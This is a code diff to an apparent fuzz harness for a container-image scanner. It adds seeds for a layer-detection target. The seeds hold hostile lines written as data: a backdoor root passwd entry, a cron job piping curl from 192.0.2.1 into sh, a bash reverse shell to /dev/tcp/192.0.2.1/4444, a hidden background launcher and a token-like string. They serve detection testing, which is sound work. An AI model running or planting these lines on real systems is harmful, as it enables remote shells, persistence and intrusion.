@@ -557,6 +557,19 @@ def catalog_java_archive_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
     return {"jar": inner, "war": war}
 
 
+def detect_layer_seeds(templates: dict[str, bytes]) -> dict[str, bytes]:
+    """Return one seed per path kind. The first byte picks the path: its index in the target's PATHS, modulo its length."""
+    return {
+        "passwd": b"\x00root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n",
+        "cron": b"\x01SHELL=/bin/sh\n* * * * * root curl -s http://192.0.2.1/x | sh\n",
+        "profile": b"\x02nohup /dev/shm/.x/run >/dev/null 2>&1 &\n",
+        "keys": b"\x03ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA x@y\n",
+        "md5sums": b"\x05d41d8cd98f00b204e9800998ecf8427e  usr/bin/x\n",
+        "script": b"\x08bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\nGITHUB_TOKEN=ghp_Zq8Xv2LmZ7rT4wK9pN3bY6cD1fG5hJ0kL2mN\n",
+        "setuid-elf": b"\x85\x7fELF\x02\x01\x01" + b"\x00" * 249 + b"UPX!",
+    }
+
+
 TARGETS = {
     "layer_walk": layer_walk_seeds,
     "docker_archive": docker_archive_seeds,
@@ -571,6 +584,7 @@ TARGETS = {
     "catalog_dpkg_status": catalog_dpkg_status_seeds,
     "catalog_apk_installed": catalog_apk_installed_seeds,
     "catalog_java_archive": catalog_java_archive_seeds,
+    "detect_layer": detect_layer_seeds,
 }
 
 
